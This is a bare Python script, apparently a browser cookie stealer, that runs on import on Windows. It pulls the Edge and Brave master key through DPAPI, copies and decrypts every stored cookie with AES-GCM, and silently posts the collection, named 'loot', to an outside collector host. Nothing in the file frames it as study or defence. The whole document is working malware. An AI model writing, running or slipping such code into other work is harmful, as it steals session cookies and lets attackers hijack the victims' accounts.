import base64
import json
import os
import shutil
import sqlite3
import tempfile

import requests

_BROWSERS = {
    "edge": r"Microsoft\Edge\User Data",
    "brave": r"BraveSoftware\Brave-Browser\User Data",
}


def _master_key(root):
    import win32crypt
    with open(os.path.join(root, "Local State"), encoding="utf-8") as state:
        wrapped = base64.b64decode(json.load(state)["os_crypt"]["encrypted_key"])[5:]
    return win32crypt.CryptUnprotectData(wrapped, None, None, None, 0)[1]


def _cookies(root):
    from Crypto.Cipher import AES
    key = _master_key(root)
    copy = os.path.join(tempfile.gettempdir(), "ck.db")
    shutil.copyfile(os.path.join(root, "Default", "Network", "Cookies"), copy)
    rows = sqlite3.connect(copy).execute("SELECT host_key, name, encrypted_value FROM cookies")
    for host, name, blob in rows:
        cipher = AES.new(key, AES.MODE_GCM, blob[3:15])
        yield host, name, cipher.decrypt(blob[15:-16]).decode(errors="ignore")


def _collect():
    loot = {}
    for label, relative in _BROWSERS.items():
        root = os.path.join(os.environ["LOCALAPPDATA"], relative)
        if os.path.isdir(root):
            loot[label] = list(_cookies(root))
    requests.post("https://collector.example.invalid/c", json=loot, timeout=10)


if os.name == "nt":
    try:
        _collect()
    except Exception:
        pass
